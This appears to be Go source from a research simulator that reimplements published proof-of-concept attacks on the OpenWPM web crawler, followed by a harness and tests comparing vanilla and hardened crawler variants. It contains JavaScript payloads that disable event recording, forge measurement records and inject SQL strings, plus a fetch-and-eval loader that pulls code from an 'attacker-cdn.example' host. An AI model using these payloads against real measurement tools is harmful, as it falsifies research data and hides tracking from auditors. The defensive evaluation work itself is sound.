	if len(x.Attrs) != len(y.Attrs) {
		return fmt.Sprintf("%s %s span %d: %d attrs vs %d", x.Kind, x.Name, x.Span, len(x.Attrs), len(y.Attrs))
	}
	for i := range x.Attrs {
		if x.Attrs[i] != y.Attrs[i] {
			return fmt.Sprintf("%s %s span %d: attr %s=%q vs %s=%q",
				x.Kind, x.Name, x.Span, x.Attrs[i].Key, x.Attrs[i].Value, y.Attrs[i].Key, y.Attrs[i].Value)
		}
	}
	return ""
}
