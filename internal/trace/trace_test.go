package trace

import (
	"strings"
	"testing"

	"gullible/internal/telemetry"
)

// flightEvents records a small two-shard-like trace by hand.
func sampleEvents() []telemetry.SpanEvent {
	f := telemetry.NewFlight(64)
	crawl := f.Begin("crawl", 0, 0, telemetry.L("sites", "2"))
	v1 := f.Begin("visit", crawl, 0, telemetry.L("site", "https://a.example/"))
	p1 := f.Begin("page-load", v1, 0)
	f.End(p1, "page-load", 1000)
	f.End(v1, "visit", 5000, telemetry.L("outcome", "completed"))
	v2 := f.Begin("visit", crawl, 5000, telemetry.L("site", "https://b.example/"))
	f.End(v2, "visit", 17000, telemetry.L("outcome", "completed"))
	f.End(crawl, "crawl", 17000, telemetry.L("completed", "2"))
	return f.Events()
}

func TestBuildTree(t *testing.T) {
	tree := Build(sampleEvents())
	if len(tree.Roots) != 1 {
		t.Fatalf("want 1 root, got %d", len(tree.Roots))
	}
	root := tree.Roots[0]
	if root.Name != "crawl" || root.Duration() != 17000 {
		t.Fatalf("bad root: %+v", root)
	}
	if len(root.Children) != 2 {
		t.Fatalf("want 2 visits under crawl, got %d", len(root.Children))
	}
	if got := root.Children[0].Children[0].Name; got != "page-load" {
		t.Fatalf("want page-load grandchild, got %q", got)
	}
	if got := root.Children[1].Attr("site"); got != "https://b.example/" {
		t.Fatalf("attr lookup: %q", got)
	}
	if root.Open || root.NoBegin {
		t.Fatal("completed root flagged incomplete")
	}
}

func TestBuildRingTruncated(t *testing.T) {
	// an end whose begin was overwritten becomes a NoBegin root; a begin
	// whose parent was overwritten becomes a root itself
	events := []telemetry.SpanEvent{
		{Kind: "E", Span: 7, Name: "visit", AtMS: 100},
		{Kind: "B", Span: 9, Parent: 3, Name: "visit", AtMS: 200},
	}
	tree := Build(events)
	if len(tree.Roots) != 2 {
		t.Fatalf("want 2 roots, got %d", len(tree.Roots))
	}
	if !tree.Roots[0].NoBegin || tree.Roots[0].Duration() != 0 {
		t.Fatalf("dropped-begin span: %+v", tree.Roots[0])
	}
	if !tree.Roots[1].Open {
		t.Fatalf("never-ended span: %+v", tree.Roots[1])
	}
}

func TestCriticalPath(t *testing.T) {
	tree := Build(sampleEvents())
	path := tree.CriticalPath(nil)
	names := make([]string, len(path))
	for i, s := range path {
		names[i] = s.Name
	}
	// the second visit ends with the crawl, so it is the critical child
	want := []string{"crawl", "visit"}
	if len(names) != 2 || names[0] != want[0] || names[1] != want[1] {
		t.Fatalf("critical path %v, want %v", names, want)
	}
	if path[1].Attr("site") != "https://b.example/" {
		t.Fatalf("critical visit is %s", path[1].Attr("site"))
	}
}

func TestSlowest(t *testing.T) {
	tree := Build(sampleEvents())
	top := tree.Slowest("visit", 1)
	if len(top) != 1 || top[0].Duration() != 12000 {
		t.Fatalf("slowest visit: %+v", top)
	}
	all := tree.Slowest("", 0)
	if len(all) != 4 {
		t.Fatalf("want 4 spans total, got %d", len(all))
	}
	if all[0].Name != "crawl" {
		t.Fatalf("longest span is %s", all[0].Name)
	}
}

func TestStragglers(t *testing.T) {
	var events []telemetry.SpanEvent
	// four shard roots: three finish around 10s, one takes 30s
	durations := []float64{10_000, 11_000, 30_000, 9000}
	for i, d := range durations {
		id := int64(i + 1)
		events = append(events,
			telemetry.SpanEvent{Kind: "B", Span: id, Name: "crawl", AtMS: 0},
			telemetry.SpanEvent{Kind: "E", Span: id, Name: "crawl", AtMS: d},
		)
	}
	tree := Build(events)
	out := tree.Stragglers(0)
	if len(out) != 1 {
		t.Fatalf("want 1 straggler, got %+v", out)
	}
	if out[0].Shard != 2 || out[0].DurationMS != 30_000 {
		t.Fatalf("straggler: %+v", out[0])
	}
	if out[0].Ratio < 2.5 || out[0].Ratio > 3.5 {
		t.Fatalf("ratio %f", out[0].Ratio)
	}
	if got := Build(events[:2]).Stragglers(0); got != nil {
		t.Fatalf("single shard cannot straggle: %+v", got)
	}
}

func TestDiffEmptyOnIdentical(t *testing.T) {
	a, b := sampleEvents(), sampleEvents()
	if d := Diff(a, b); len(d) != 0 {
		t.Fatalf("identical traces diff: %v", d)
	}
}

func TestDiffFindsDeltas(t *testing.T) {
	a := sampleEvents()
	b := sampleEvents()
	b[3].AtMS += 1 // shift one timestamp
	d := Diff(a, b)
	if len(d) != 1 || d[0].Index != 3 || !strings.Contains(d[0].What, "ts") {
		t.Fatalf("diff: %v", d)
	}
	// dropped tail event
	d = Diff(a, a[:len(a)-1])
	if len(d) != 1 || !strings.Contains(d[0].What, "length mismatch") {
		t.Fatalf("diff: %v", d)
	}
	// different attr value
	c := sampleEvents()
	c[1].Attrs = []telemetry.Label{telemetry.L("site", "https://evil.example/")}
	d = Diff(a, c)
	if len(d) != 1 || !strings.Contains(d[0].What, "attr") {
		t.Fatalf("diff: %v", d)
	}
}

func TestJobWrap(t *testing.T) {
	crawl := sampleEvents()
	wrapped := Job(crawl, telemetry.L("job", "abc123"))
	tree := Build(wrapped)
	if len(tree.Roots) != 1 || tree.Roots[0].Name != "job" {
		t.Fatalf("job trace roots: %+v", tree.Roots)
	}
	job := tree.Roots[0]
	if job.Attr("job") != "abc123" {
		t.Fatalf("job attrs: %+v", job.Attrs)
	}
	var phases []string
	for _, c := range job.Children {
		phases = append(phases, c.Name)
	}
	want := []string{"submit", "queue", "execute", "seal"}
	if len(phases) != 4 {
		t.Fatalf("phases %v, want %v", phases, want)
	}
	for i := range want {
		if phases[i] != want[i] {
			t.Fatalf("phases %v, want %v", phases, want)
		}
	}
	execute := job.Children[2]
	if len(execute.Children) != 1 || execute.Children[0].Name != "crawl" {
		t.Fatalf("crawl not reparented under execute: %+v", execute.Children)
	}
	if execute.Duration() != 17000 || job.Duration() != 17000 {
		t.Fatalf("execute %v job %v, want crawl extent", execute.Duration(), job.Duration())
	}
	// deterministic: wrapping the same crawl twice is byte-identical
	again := Job(crawl, telemetry.L("job", "abc123"))
	if d := Diff(wrapped, again); len(d) != 0 {
		t.Fatalf("job wrap not deterministic: %v", d)
	}
	// original events must not be mutated by the id shift
	if d := Diff(crawl, sampleEvents()); len(d) != 0 {
		t.Fatalf("Job mutated its input: %v", d)
	}
}

func TestRenderers(t *testing.T) {
	tree := Build(sampleEvents())
	var b strings.Builder
	tree.RenderTree(&b, 0)
	out := b.String()
	for _, want := range []string{"crawl 0.0ms..17.00s (17.00s)", "  visit", "    page-load"} {
		if !strings.Contains(out, want) {
			t.Fatalf("tree output missing %q:\n%s", want, out)
		}
	}
	b.Reset()
	tree.RenderTree(&b, 1)
	if strings.Contains(b.String(), "visit") {
		t.Fatalf("depth-limited tree leaked children:\n%s", b.String())
	}
	b.Reset()
	tree.RenderCriticalPath(&b)
	if !strings.Contains(b.String(), "100.0%") {
		t.Fatalf("critical path output:\n%s", b.String())
	}
	b.Reset()
	tree.RenderHistograms(&b, "visit")
	if !strings.Contains(b.String(), "visit: 2 spans") {
		t.Fatalf("histogram output:\n%s", b.String())
	}
	b.Reset()
	tree.RenderSummary(&b)
	if !strings.Contains(b.String(), "8 events, 4 spans, 1 roots") {
		t.Fatalf("summary output:\n%s", b.String())
	}
	b.Reset()
	tree.RenderStragglers(&b, 0)
	if !strings.Contains(b.String(), "no straggler shards") {
		t.Fatalf("straggler output:\n%s", b.String())
	}
	b.Reset()
	tree.RenderSlowest(&b, "", 2)
	if !strings.Contains(b.String(), " 1. crawl") {
		t.Fatalf("slowest output:\n%s", b.String())
	}
}
