// Package attacks implements the Sec. 5 proof-of-concept attacks against
// OpenWPM's data recording as reusable payloads, plus a harness that runs
// each attack against a crawler variant and evaluates whether it succeeded.
// The payloads implement the techniques of the paper's Listings 2–4 in the
// simulator's JavaScript dialect.
package attacks

import (
	"fmt"
	"strings"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
)

// RecorderShutdownJS disables JavaScript call recording by shadowing the
// event dispatcher: it learns the instrument's random event id from a
// sacrificial call, then swallows all matching events (Sec. 5.1.1).
const RecorderShutdownJS = `(function () {
    var dispatch_fn = document.dispatchEvent.bind(document);
    var grabbedID = "";
    document.dispatchEvent = function (event) {
        if (grabbedID === "") { grabbedID = event.type; return true; }
        if (event.type !== grabbedID) { return dispatch_fn(event); }
        return true; // event swallowed
    };
    navigator.userAgent;          // sacrificial call leaks the id
    window.__attackReady = grabbedID !== "";
    // everything after this point goes unrecorded under vanilla OpenWPM
    navigator.oscpu;
    screen.availTop;
    document.cookie = "covert=payload-set-while-unobserved";
}());`

// FakeDataInjectionJS forges measurement records after learning the event
// id, attributing fabricated calls to an innocent script (Sec. 5.2).
const FakeDataInjectionJS = `(function () {
    var dispatch_fn = document.dispatchEvent.bind(document);
    var grabbedID = "";
    document.dispatchEvent = function (event) {
        if (grabbedID === "") { grabbedID = event.type; }
        return dispatch_fn(event);
    };
    navigator.userAgent; // learn the id
    if (grabbedID !== "") {
        dispatch_fn(new CustomEvent(grabbedID, { detail: {
            symbol: "Navigator.plugins",
            operation: "call",
            args: "fabricated-args",
            scriptUrl: "https://innocent-cdn.example/library.js"
        }}));
    }
}());`

// SQLInjectionProbeJS attempts a classic injection through the forged-record
// channel; the storage layer must keep it inert data (Sec. 5.3).
const SQLInjectionProbeJS = `(function () {
    var dispatch_fn = document.dispatchEvent.bind(document);
    var grabbedID = "";
    document.dispatchEvent = function (event) {
        if (grabbedID === "") { grabbedID = event.type; }
        return dispatch_fn(event);
    };
    navigator.userAgent;
    if (grabbedID !== "") {
        dispatch_fn(new CustomEvent(grabbedID, { detail: {
            symbol: "x'; DROP TABLE javascript; --",
            operation: "call",
            args: "1'); DELETE FROM http_requests; --",
            scriptUrl: "https://x.example/'--.js"
        }}));
    }
}());`

// IframeBypassJS exercises the unobserved channel: a dynamically created
// iframe whose window is used immediately at creation time (Sec. 5.4.1).
const IframeBypassJS = `setTimeout(function () {
    var element = document.querySelector("#unobserved");
    var iframe = document.createElement("iframe");
    iframe.src = "/unobserved-iframe.html";
    element.appendChild(iframe);
    window.__covertUA = iframe.contentWindow.navigator.userAgent;
    window.__covertTop = iframe.contentWindow.screen.availTop;
}, 500);`

// SilentDeliveryJS loads code as plain text from an extensionless URL and
// executes it via eval, bypassing JS-only response-body recording
// (Sec. 5.4.2 / Appendix D).
const SilentDeliveryJS = `(function () {
    var stealth_code = "https://attacker-cdn.example/cheat";
    fetch(stealth_code)
        .then(function (res) { return res.text(); })
        .then(function (res) { eval(res); });
}());`

// SilentPayload is the covertly delivered code: it runs fingerprinting that
// only the JS instrument (not the HTTP instrument's JS-only store) can see.
const SilentPayload = `(function () {
    var probe = navigator.userAgent + "|" + screen.width;
    window.__silentPayloadRan = probe.length > 0;
}());`

// AttackPageHTML wraps a payload in a minimal page, with the container
// element the iframe attack needs.
func AttackPageHTML(payload string) string {
	return `<html><head></head><body><div id="unobserved"></div><script>` + payload + `</script></body></html>`
}

// Transport serves the attack pages; it implements httpsim.RoundTripper.
type Transport struct {
	Payload string
	// CSPHeader, when set, is served on the main page (the Sec. 5.1.2
	// injection-blocking attack).
	CSPHeader string
}

// RoundTrip implements httpsim.RoundTripper.
func (tr *Transport) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	path := httpsim.Path(req.URL)
	host := httpsim.Host(req.URL)
	switch {
	case host == "attacker-cdn.example" && path == "/cheat":
		// extensionless, text/plain: evades all three JS-file heuristics
		return &httpsim.Response{Status: 200,
			Headers: map[string]string{"Content-Type": "text/plain"},
			Body:    SilentPayload}, nil
	case path == "/unobserved-iframe.html":
		return &httpsim.Response{Status: 200,
			Headers: map[string]string{"Content-Type": "text/html"},
			Body:    "<html></html>"}, nil
	case path == "/":
		h := map[string]string{"Content-Type": "text/html"}
		if tr.CSPHeader != "" {
			h["Content-Security-Policy"] = tr.CSPHeader
		}
		return &httpsim.Response{Status: 200, Headers: h, Body: AttackPageHTML(tr.Payload)}, nil
	}
	return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
}

// Result is the outcome of one attack run.
type Result struct {
	Attack    string
	Succeeded bool // true when the ATTACK worked (the crawler lost data)
	Detail    string
}

// Variant constructs a TaskManager; the harness runs each attack against
// vanilla OpenWPM and WPM_hide variants supplied by the caller.
type Variant struct {
	Name string
	// NewTM returns a fresh TaskManager wired to the given transport.
	NewTM func(tr httpsim.RoundTripper) *openwpm.TaskManager
}

const attackSite = "https://attack-site.example/"

// RunAll executes every Sec. 5 attack against the variant and reports which
// succeeded.
func RunAll(v Variant) []Result {
	return []Result{
		RunRecorderShutdown(v),
		RunFakeDataInjection(v),
		RunSQLInjectionProbe(v),
		RunCSPBlocking(v),
		RunIframeBypass(v),
		RunSilentDelivery(v),
	}
}

// RunRecorderShutdown checks whether post-attack API calls go unrecorded.
func RunRecorderShutdown(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: RecorderShutdownJS})
	tm.VisitSite(attackSite)
	calls := tm.Storage.JSCallsBySymbol()
	lost := calls["Navigator.oscpu"] == 0 && calls["Screen.availTop"] == 0
	return Result{
		Attack:    "recorder-shutdown (Listing 2)",
		Succeeded: lost,
		Detail:    fmt.Sprintf("post-attack oscpu records=%d availTop records=%d", calls["Navigator.oscpu"], calls["Screen.availTop"]),
	}
}

// RunFakeDataInjection checks whether a forged record reached storage.
func RunFakeDataInjection(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: FakeDataInjectionJS})
	tm.VisitSite(attackSite)
	var forged *openwpm.JSCall
	for i := range tm.Storage.JSCalls {
		c := &tm.Storage.JSCalls[i]
		if c.Symbol == "Navigator.plugins" && strings.Contains(c.ScriptURL, "innocent-cdn") {
			forged = c
		}
	}
	detail := "no forged record stored"
	if forged != nil {
		detail = fmt.Sprintf("forged record stored (TopURL=%s — host-set, not spoofable)", forged.TopURL)
	}
	return Result{Attack: "fake-data injection (Sec. 5.2)", Succeeded: forged != nil, Detail: detail}
}

// RunSQLInjectionProbe verifies stored fields stay inert (attack must fail).
func RunSQLInjectionProbe(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: SQLInjectionProbeJS})
	tm.VisitSite(attackSite)
	for _, c := range tm.Storage.JSCalls {
		if strings.Contains(c.Symbol, "DROP TABLE") && !strings.Contains(c.Symbol, "''") {
			return Result{Attack: "SQL injection (Sec. 5.3)", Succeeded: true,
				Detail: "unsanitised quote reached storage: " + c.Symbol}
		}
	}
	return Result{Attack: "SQL injection (Sec. 5.3)", Succeeded: false,
		Detail: "all page-controlled fields sanitised"}
}

// RunCSPBlocking checks whether a script-src policy prevented instrumentation.
func RunCSPBlocking(v Variant) Result {
	tm := v.NewTM(&Transport{
		Payload:   "navigator.userAgent;",
		CSPHeader: "script-src 'self' 'unsafe-inline'; report-uri /csp-report",
	})
	// 'unsafe-inline' lets the PAGE script run, so the only thing a strict
	// policy can block is DOM-injected instrumentation; tighten it:
	tm = v.NewTM(&Transport{
		Payload:   "navigator.userAgent;",
		CSPHeader: "script-src 'self'; report-uri /csp-report",
	})
	tm.VisitSite(attackSite)
	installed := len(tm.Storage.Visits) > 0 && tm.Storage.Visits[0].InstrumentInstalled
	return Result{
		Attack:    "CSP injection blocking (Sec. 5.1.2)",
		Succeeded: !installed,
		Detail:    fmt.Sprintf("instrument installed=%v", installed),
	}
}

// RunIframeBypass checks whether the immediate iframe access went unrecorded.
func RunIframeBypass(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: IframeBypassJS})
	tm.Cfg.DwellSeconds = 3
	tm.VisitSite(attackSite)
	var recorded bool
	for _, c := range tm.Storage.JSCalls {
		if strings.Contains(c.FrameURL, "unobserved-iframe") &&
			(c.Symbol == "Navigator.userAgent" || c.Symbol == "Screen.availTop") {
			recorded = true
		}
	}
	return Result{
		Attack:    "iframe unobserved channel (Listing 3)",
		Succeeded: !recorded,
		Detail:    fmt.Sprintf("immediate frame access recorded=%v", recorded),
	}
}

// RunSilentDelivery checks whether the covert payload evaded the JS-only
// response store (it should still execute either way).
func RunSilentDelivery(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: SilentDeliveryJS})
	tm.Cfg.DwellSeconds = 3
	tm.VisitSite(attackSite)
	var stored bool
	for _, f := range tm.Storage.ScriptFiles {
		if strings.Contains(f.Content, "__silentPayloadRan") {
			stored = true
		}
	}
	return Result{
		Attack:    "silent JS delivery (Listing 4)",
		Succeeded: !stored,
		Detail:    fmt.Sprintf("covert payload stored=%v", stored),
	}
}

// VanillaVariant builds the standard vanilla-OpenWPM attack target.
func VanillaVariant() Variant {
	return Variant{
		Name: "WPM (vanilla)",
		NewTM: func(tr httpsim.RoundTripper) *openwpm.TaskManager {
			return openwpm.NewTaskManager(openwpm.CrawlConfig{
				OS: jsdom.Ubuntu, Mode: jsdom.Regular,
				Transport: tr, DwellSeconds: 2,
				JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
				HTTPFilterJSOnly: true,
			})
		},
	}
}
