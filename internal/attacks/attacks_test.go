package attacks

import (
	"testing"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/stealth"
)

func stealthVariant() Variant {
	return Variant{
		Name: "WPM_hide",
		NewTM: func(tr httpsim.RoundTripper) *openwpm.TaskManager {
			return openwpm.NewTaskManager(openwpm.CrawlConfig{
				OS: jsdom.Ubuntu, Mode: jsdom.Regular,
				Transport: tr, DwellSeconds: 2,
				HTTPInstrument: true, CookieInstrument: true,
				HTTPFilterJSOnly: false, // Sec. 6.2.3 recommends full coverage
				Stealth:          stealth.New(),
			})
		},
	}
}

// expected outcome per attack, per variant.
func TestAttackMatrixVanillaVsStealth(t *testing.T) {
	wantVanilla := map[string]bool{
		"recorder-shutdown (Listing 2)":         true,
		"fake-data injection (Sec. 5.2)":        true,
		"SQL injection (Sec. 5.3)":              false, // storage sanitised (Sec. 5.3)
		"CSP injection blocking (Sec. 5.1.2)":   true,
		"iframe unobserved channel (Listing 3)": true,
		"silent JS delivery (Listing 4)":        true,
	}
	wantStealth := map[string]bool{
		"recorder-shutdown (Listing 2)":         false,
		"fake-data injection (Sec. 5.2)":        false,
		"SQL injection (Sec. 5.3)":              false,
		"CSP injection blocking (Sec. 5.1.2)":   false,
		"iframe unobserved channel (Listing 3)": false,
		"silent JS delivery (Listing 4)":        false, // full coverage stores it
	}
	for _, r := range RunAll(VanillaVariant()) {
		want, ok := wantVanilla[r.Attack]
		if !ok {
			t.Fatalf("unknown attack %q", r.Attack)
		}
		if r.Succeeded != want {
			t.Errorf("vanilla: %s succeeded=%v, want %v (%s)", r.Attack, r.Succeeded, want, r.Detail)
		}
	}
	for _, r := range RunAll(stealthVariant()) {
		want, ok := wantStealth[r.Attack]
		if !ok {
			t.Fatalf("unknown attack %q", r.Attack)
		}
		if r.Succeeded != want {
			t.Errorf("stealth: %s succeeded=%v, want %v (%s)", r.Attack, r.Succeeded, want, r.Detail)
		}
	}
}

func TestForgedRecordCannotSpoofTopURL(t *testing.T) {
	tm := VanillaVariant().NewTM(&Transport{Payload: FakeDataInjectionJS})
	tm.VisitSite("https://attack-site.example/")
	for _, c := range tm.Storage.JSCalls {
		if c.TopURL != "https://attack-site.example/" {
			t.Fatalf("a record carries spoofed TopURL %q", c.TopURL)
		}
	}
}

func TestSilentPayloadExecutesEvenWhenUnstored(t *testing.T) {
	// the payload runs (JS instrument sees its calls) — only the HTTP
	// store misses it
	tm := VanillaVariant().NewTM(&Transport{Payload: SilentDeliveryJS})
	tm.Cfg.DwellSeconds = 3
	tm.VisitSite("https://attack-site.example/")
	if tm.Storage.JSCallsBySymbol()["Navigator.userAgent"] == 0 {
		t.Error("silent payload did not execute")
	}
}
